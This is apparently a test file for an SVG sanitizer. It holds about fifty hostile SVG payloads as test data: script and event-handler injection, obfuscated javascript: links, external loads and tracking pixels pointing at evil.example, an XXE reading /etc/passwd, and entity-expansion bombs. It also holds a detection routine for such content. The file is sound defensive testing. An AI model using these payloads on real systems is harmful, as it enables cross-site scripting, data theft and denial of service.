import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { encodeDrawing } from '../../../src/media/drawing/encode.ts';
import { textOf } from './text-of.ts';

interface Tag {
  readonly name: string;
  readonly attributes: ReadonlyMap<string, string>;
  readonly text: string;
}

/** A strict reader of its own: anything but elements, quoted attributes and escaped text is an error. */
function parse(xml: string): Tag[] {
  const tags: Tag[] = [];
  const open: string[] = [];
  const unescape = (text: string): string => {
    if (/&(?!(?:lt|gt|amp|quot|apos|#\d+|#x[0-9a-f]+);)/i.test(text)) throw new Error(`bare & in ${text}`);
    return text
      .replace(/&#x([0-9a-f]+);/gi, (_, hex: string) => String.fromCodePoint(Number.parseInt(hex, 16)))
      .replace(/&#(\d+);/g, (_, n: string) => String.fromCodePoint(Number(n)))
      .replace(/&lt;/g, '<')
      .replace(/&gt;/g, '>')
      .replace(/&quot;/g, '"')
      .replace(/&apos;/g, "'")
      .replace(/&amp;/g, '&');
  };
  const token = /<(\/?)([\w:-]+)((?:\s+[\w:-]+="[^"<]*")*)\s*(\/?)>([^<]*)/y;
  while (token.lastIndex < xml.length) {
    const at = token.lastIndex;
    const match = token.exec(xml);
    if (!match) throw new Error(`not plain XML at: ${xml.slice(at, at + 80)}`);
    const [, closing, name = '', attributes = '', selfClosing, text = ''] = match;
    if (closing) {
      if (open.pop() !== name) throw new Error(`${name} closes another element`);
    } else {
      const found = [...attributes.matchAll(/([\w:-]+)="([^"]*)"/g)];
      tags.push({
        name,
        attributes: new Map(found.map((pair) => [pair[1] ?? '', unescape(pair[2] ?? '')])),
        text: unescape(text),
      });
      if (!selfClosing) open.push(name);
    }
  }
  if (open.length > 0) throw new Error(`${open.join()} stay open`);
  return tags;
}

const HARMLESS_DATA = /^data:image\/(?:png|jpeg|gif|webp);base64,[A-Za-z0-9+/=]+$/;

/** All that a browser could run, load or follow from these tags. */
function dangers(tags: readonly Tag[]): string[] {
  const found: string[] = [];
  for (const { name, attributes, text } of tags) {
    if (/script|foreignobject|iframe|object|embed|handler|audio|video|^a$|:/i.test(name))
      found.push(`<${name}>`);
    for (const [key, value] of attributes) {
      if (/^on/i.test(key)) found.push(key);
      if (/href|^src$|^data$|^action$/i.test(key) && !value.startsWith('#') && !HARMLESS_DATA.test(value))
        found.push(`${key}=${value}`);
      if (/^xmlns(?!:xlink$)./.test(key) || (key === 'xmlns' && value !== 'http://www.w3.org/2000/svg'))
        found.push(key);
      if (key === 'attributeName' && /href|style|^on|class/i.test(value)) found.push(`animates ${value}`);
      if (/script\s*:|data:(?!image\/(?:png|jpeg|gif|webp))|\\/i.test(value)) found.push(`${key}=${value}`);
      if (/url\(\s*["']?(?!#|["']?data:image)/i.test(value)) found.push(`${key}=${value}`);
      if (!key.startsWith('xmlns') && /https?:|\/\/|image-set|evil/i.test(value))
        found.push(`${key}=${value}`);
    }
    if (
      name === 'style' &&
      /@import|url\(\s*["']?(?!#|["']?data:)|https?:|expression|binding|\\|image-set|evil/i.test(text)
    )
      found.push(`style ${text}`);
  }
  return found;
}

const wrap = (inside: string, root = ''): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10"${root}>` +
  `${inside}<rect id="witness" width="10" height="10"/></svg>`;

async function clean(svg: string | Buffer): Promise<string> {
  return textOf((await encodeDrawing(Buffer.from(svg))).forms);
}

const attacks: readonly (readonly [string, string])[] = [
  ['a script', wrap('<script>alert(1)</script>')],
  ['a script in CDATA', wrap('<script type="text/javascript"><![CDATA[alert(1)]]></script>')],
  ['a script from elsewhere', wrap('<script xlink:href="https://evil.example/x.js"/>')],
  ['a script by another prefix', wrap('<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>')],
  [
    'a script of another namespace',
    wrap('<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>'),
  ],
  [
    'a default namespace of HTML',
    wrap('<g xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="alert(1)"/></g>'),
  ],
  ['a handler on the root', wrap('', ' onload="alert(1)"')],
  ['a handler in capitals', wrap('<rect ONCLICK="alert(1)" onmouseover="alert(2)"/>')],
  ['a handler of an animation', wrap('<animate onbegin="alert(1)" attributeName="x" dur="1s"/>')],
  ['a handler element', wrap('<handler type="text/javascript">alert(1)</handler>')],
  [
    'a page inside',
    wrap(
      '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example"/></foreignObject>',
    ),
  ],
  [
    'HTML inside',
    wrap('<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="alert(1)"/></foreignObject>'),
  ],
  ['a link that runs', wrap('<a xlink:href="javascript:alert(1)"><text>x</text></a>')],
  ['a link with a tab in its scheme', wrap('<a href="java&#9;script:alert(1)"><text>x</text></a>')],
  ['a link in entities', wrap('<a href="&#x6A;avascript&#58;alert(1)"><text>x</text></a>')],
  ['a link to elsewhere', wrap('<a href="https://evil.example"><text>x</text></a>')],
  ['an animated link', wrap('<a><set attributeName="href" to="javascript:alert(1)"/><text>x</text></a>')],
  [
    'an animated xlink',
    wrap('<a href="#"><animate attributeName="xlink:href" values="javascript:alert(1)"/></a>'),
  ],
  ['an animated handler', wrap('<rect><set attributeName="onmouseover" to="alert(1)"/></rect>')],
  [
    'an animated style',
    wrap('<rect><set attributeName="style" to="fill:url(https://evil.example)"/></rect>'),
  ],
  ['a use of another file', wrap('<use href="https://evil.example/x.svg#a"/>')],
  ['a use of data', wrap('<use href="data:image/svg+xml;base64,PHN2Zy8+#a"/>')],
  ['a picture from the web', wrap('<image href="https://evil.example/track.png"/>')],
  ['a picture without a scheme', wrap('<image xlink:href="//evil.example/track.png"/>')],
  ['a picture of this machine', wrap('<image href="file:///etc/passwd"/>')],
  ['a picture that is a drawing', wrap('<image href="data:image/svg+xml,&lt;svg onload=alert(1)>"/>')],
  ['a page as data', wrap('<image href="data:text/html,&lt;script>alert(1)&lt;/script>"/>')],
  [
    'a filter picture from the web',
    wrap('<filter id="f"><feImage href="https://evil.example/x.png"/></filter>'),
  ],
  ['an import', wrap('<style>@import url(https://evil.example/x.css);</style>')],
  ['an import as a string', wrap('<style>@import "https://evil.example/x.css"; rect{fill:red}</style>')],
  ['an escaped import', wrap('<style>@\\69mport "https://evil.example/x.css";</style>')],
  ['a background in style', wrap('<style>rect{fill:url(https://evil.example/#a)}</style>')],
  ['an escaped url', wrap('<rect style="fill:u\\72l(https://evil.example/#a)"/>')],
  ['a url split by a comment', wrap('<style>rect{fill:ur/**/l(https://evil.example/#a)}</style>')],
  [
    'a url of presentation',
    wrap('<rect fill="url(https://evil.example/#a)" mask="URL( &quot;//evil.example&quot; )"/>'),
  ],
  ['an image-set', wrap('<rect style="mask:image-set(&quot;https://evil.example/x.png&quot; 1x)"/>')],
  ['an image-set as attribute', wrap('<rect mask="image-set(\'https://evil.example/x.png\' 1x)"/>')],
  [
    'a font from elsewhere',
    wrap('<style>@font-face{font-family:x;src:url(https://evil.example/x.woff2)}</style>'),
  ],
  ['an expression', wrap('<rect style="width:expression(alert(1))"/>')],
  ['a binding', wrap('<style>rect{-moz-binding:url(https://evil.example/x.xml#x)}</style>')],
  ['a cursor', wrap('<rect cursor="url(https://evil.example/c.cur),auto"/>')],
  [
    'a style sheet instruction',
    `<?xml version="1.0"?><?xml-stylesheet href="https://evil.example/x.xsl"?>${wrap('')}`,
  ],
  [
    'an external entity',
    `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${wrap('<text>&x;</text>')}`,
  ],
  ['an entity with markup', `<!DOCTYPE svg [<!ENTITY x "<script>alert(1)</script>">]>${wrap('<g>&x;</g>')}`],
  [
    'an external document type',
    `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "https://evil.example/x.dtd">${wrap('')}`,
  ],
  ['a style that closes itself', wrap('<style>&lt;/style>&lt;script>alert(1)&lt;/script></style>')],
  ['markup in an attribute', wrap('<rect id="&quot;>&lt;script>alert(1)&lt;/script>"/>')],
  ['an embedded object', wrap('<embed src="https://evil.example"/><object data="x"/>')],
  ['a base', wrap('', ' xml:base="https://evil.example/"')],
  ['audio', wrap('<audio src="https://evil.example/a.mp3" autoplay="autoplay"/>')],
  [
    'a listener',
    wrap('<ev:listener xmlns:ev="http://www.w3.org/2001/xml-events" event="load" handler="#x"/>'),
  ],
  ['metadata', wrap('<metadata><x onclick="alert(1)"/></metadata>')],
];

describe('a hostile drawing runs, loads and links nothing', () => {
  it.each(attacks)('%s', async (_, svg) => {
    const out = await clean(svg);
    expect(out === '' ? [] : dangers(parse(out))).toEqual([]);
  });

  it('keeps the rest of the drawing', async () => {
    for (const [name, svg] of attacks) {
      const out = await clean(svg);
      // What refers to an entity that is not taken over is not well-formed: there is no rest.
      if (!name.includes('entity')) expect(out, name).toContain('witness');
    }
  });

  it('says what is missing', async () => {
    const { findings } = await encodeDrawing(
      Buffer.from(wrap('<script/><foreignObject/><image href="https://x.example/a.png"/>')),
    );
    expect(findings).toEqual([
      { code: 'asset-drawing-cleaned', params: { what: 'embedded page, outside reference, script' } },
    ]);
  });
});

describe('a drawing that would take all memory or time', () => {
  const code = async (svg: string): Promise<string | undefined> =>
    (await encodeDrawing(Buffer.from(svg))).findings[0]?.code;

  it('refuses entities that multiply', async () => {
    const levels = Array.from({ length: 20 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`);
    const bomb = `<!DOCTYPE svg [<!ENTITY l0 "lol">${levels.join('')}]>${wrap('<text>&l20;</text>')}`;
    expect(await code(bomb)).toBe('asset-undecodable');
  });

  it('refuses entities that are long and used often', async () => {
    const bomb = `<!DOCTYPE svg [<!ENTITY a "${'a'.repeat(200)}">]>${wrap(`<text>${'&a;'.repeat(100_000)}</text>`)}`;
    expect(await code(bomb)).toBe('asset-undecodable');
  });

  it.each([300, 50_000])('refuses %d levels of groups', async (depth) => {
    expect(await code(wrap(`${'<g>'.repeat(depth)}${'</g>'.repeat(depth)}`))).toBe('asset-too-large');
  });

  it.each([
    ['spaces in url()', wrap(`<style>a{fill:url(${' '.repeat(300_000)}</style>`)],
    ['font faces that stay open', wrap(`<style>${'@font-face{'.repeat(100_000)}</style>`)],
    ['comments that stay open', wrap(`<style>${'/*'.repeat(200_000)}</style>`)],
    ['style elements that stay open', `${wrap('')}${'<style>'.repeat(100_000)}/>`],
    ['document types that stay open', `<svg>${'<!DOCTYPE '.repeat(100_000)}/>`],
    ['comments at the end', `${wrap('')}${'<!---->'.repeat(50_000)}x`],
    [
      'many rules for many elements',
      wrap(
        `<style>${'.a .b>.c{x:y}'.repeat(20_000)}</style>${'<g class="a"><path d="M0 0h1"/></g>'.repeat(20_000)}`,
      ),
    ],
  ])('is done soon with %s', async (_, svg) => {
    const { forms, findings } = await encodeDrawing(Buffer.from(svg));
    expect(forms.length > 0 || findings.length > 0).toBe(true);
  });

  it('refuses a second document type, which could bring entities without bounds', async () => {
    const twice = `<!DOCTYPE svg [<!ENTITY a "x">]><!DOCTYPE svg [<!ENTITY b "&a;">]>${wrap('<text>&b;</text>')}`;
    expect(await code(twice)).toBe('asset-undecodable');
  });

  it('refuses what ends too early, is empty, or is no XML', async () => {
    const whole = wrap('<g><rect/></g>');
    for (let length = 0; length < whole.length; length += 7)
      expect(await code(whole.slice(0, length)), whole.slice(0, length)).toBe('asset-undecodable');
    expect(await code('<svg xmlns="http://www.w3.org/2000/svg"><g></svg>')).toBe('asset-undecodable');
    expect(await code('<html></html>')).toBe('asset-undecodable');
  });
});

describe('any bytes at all', () => {
  it('give a clean drawing or a reason, never a failure', async () => {
    const seeds = attacks.map(([, svg]) => svg);
    const mutation = fc.record({
      svg: fc.constantFrom(...seeds),
      other: fc.constantFrom(...seeds),
      cuts: fc.tuple(fc.double({ min: 0, max: 1, noNaN: true }), fc.double({ min: 0, max: 1, noNaN: true })),
      junk: fc.constantFrom(
        '',
        '"',
        "'",
        '<',
        '>',
        '/>',
        '&',
        '\\',
        '/*',
        '*/',
        '<![CDATA[',
        ']]>',
        '<!--',
        '-->',
        '\0',
        'url(',
        ' on',
      ),
    });
    await fc.assert(
      fc.asyncProperty(mutation, async ({ svg, other, cuts: [a, b], junk }) => {
        const mixed =
          svg.slice(0, Math.floor(svg.length * a)) + junk + other.slice(Math.floor(other.length * b));
        const { forms, findings } = await encodeDrawing(Buffer.from(mixed));
        if (forms.length > 0) expect(dangers(parse(textOf(forms)))).toEqual([]);
        else expect(findings).toHaveLength(1);
      }),
      { numRuns: 1500 },
    );
  });
});

describe('an honest drawing', () => {
  it('keeps shapes, text, gradients, clips, markers, filters, styles and animation', async () => {
    const svg = wrap(
      '<title>T</title><desc>D</desc><style>.a{fill:url(#g);stroke:#f00}</style>' +
        '<defs><linearGradient id="g"><stop offset="0" stop-color="red"/></linearGradient>' +
        '<clipPath id="c"><circle r="5"/></clipPath><marker id="m"><path d="M0 0h1"/></marker>' +
        '<filter id="f"><feGaussianBlur stdDeviation="2"/></filter></defs>' +
        '<g clip-path="url(#c)" filter="url(#f)"><path class="a" marker-end="url(#m)" d="M0 0h5"/></g>' +
        '<text x="1" y="2" xml:space="preserve">Hi  <tspan dx="1">you</tspan></text>' +
        '<use xlink:href="#m"/><rect><animate attributeName="x" from="0" to="5" dur="1s"/></rect>',
    );
    const tags = parse(await clean(svg));
    for (const name of 'title desc style linearGradient stop clipPath circle marker filter feGaussianBlur text tspan use animate'.split(
      ' ',
    ))
      expect(tags.map((tag) => tag.name)).toContain(name);
    expect(tags.find((tag) => tag.name === 'text')?.text).toBe('Hi  ');
    expect(tags.find((tag) => tag.name === 'style')?.text).toContain('fill:url(#g)');
    expect(tags.find((tag) => tag.attributes.get('clip-path') === 'url(#c)')).toBeDefined();
  });

  it('keeps an embedded raster picture and an embedded font', async () => {
    const out = await clean(
      wrap(
        '<style>@font-face{font-family:"V";src:url(data:font/woff2;base64,d09GMg==)}</style>' +
          '<image width="1" height="1" xlink:href="data:image/png;base64,iVBO\n Rw0K"/>',
      ),
    );
    expect(out).toContain('data:font/woff2;base64,d09GMg==');
    expect(out).toContain('"data:image/png;base64,iVBORw0K"');
  });

  it('keeps large embedded pictures whole', async () => {
    const data = Buffer.alloc(300_000, 'picture').toString('base64');
    expect(await clean(wrap(`<image width="1" height="1" href="data:image/png;base64,${data}"/>`))).toContain(
      data,
    );
  });

  it('understands the namespace entities and prefixes of editors', async () => {
    const illustrator = `<?xml version="1.0" encoding="utf-8"?>
      <!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [
        <!ENTITY ns_svg "http://www.w3.org/2000/svg">
        <!ENTITY ns_xlink 'http://www.w3.org/1999/xlink'>
      ]>
      <svg xmlns="&ns_svg;" xmlns:xlink="&ns_xlink;" width="20" height="10"><rect width="5" height="5"/></svg>`;
    expect(await clean(illustrator)).toContain('<rect');
    const prefixed =
      '<svg:svg xmlns:svg="http://www.w3.org/2000/svg" width="1" height="1"><svg:rect width="1" height="1"/></svg:svg>';
    expect(parse(await clean(prefixed)).map((tag) => tag.name)).toEqual(['svg', 'rect']);
    const inkscape = wrap(
      '<sodipodi:namedview xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd"/><g inkscape:label="x" xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape"/>',
    );
    expect(await clean(inkscape)).not.toMatch(/sodipodi|inkscape/);
  });

  it('reads the character encodings that drawings are written in', async () => {
    const svg = wrap('<text>Größe</text>');
    expect(await clean(Buffer.from(`<?xml version="1.0" encoding="ISO-8859-1"?>${svg}`, 'latin1'))).toContain(
      'Größe',
    );
    expect(await clean(Buffer.from(`\ufeff${svg}`, 'utf16le'))).toContain('Größe');
    expect(await clean(Buffer.from(`\ufeff${svg}`))).toContain('Größe');
  });

  it.each([
    ['width="40" height="20"', 40, 20],
    ['width="40px" height="20PX" viewBox="0 0 4 2"', 40, 20],
    ['width="1in" height="72pt"', 96, 96],
    ['viewBox="0 0 300.4 100"', 300, 100],
    ['width="100%" viewBox="0,0,30,60"', 30, 60],
    ['width="60" viewBox="0 0 30 10"', 60, 20],
    ['height="5" viewBox="0 0 30 10"', 15, 5],
    ['', 300, 150],
    ['width="-4" height="NaN" viewBox="0 0 0 0"', 300, 150],
  ])('has the size that a browser gives to <svg %s>', async (root, width, height) => {
    const svg = `<svg xmlns="http://www.w3.org/2000/svg" ${root}><rect width="1" height="1"/></svg>`;
    expect((await encodeDrawing(Buffer.from(svg))).forms).toMatchObject([{ width, height }]);
  });

  it('scales: a drawing of fixed size gets the viewBox it lacks', async () => {
    expect(await clean(wrap(''))).toContain('viewBox="0 0 10 10"');
  });

  it('gives the same bytes for what is clean already', async () => {
    const once = await clean(wrap('<path d="M 10.12345 20 L 30 40"/><text>a  b</text>'));
    expect(await clean(once)).toBe(once);
  });
});
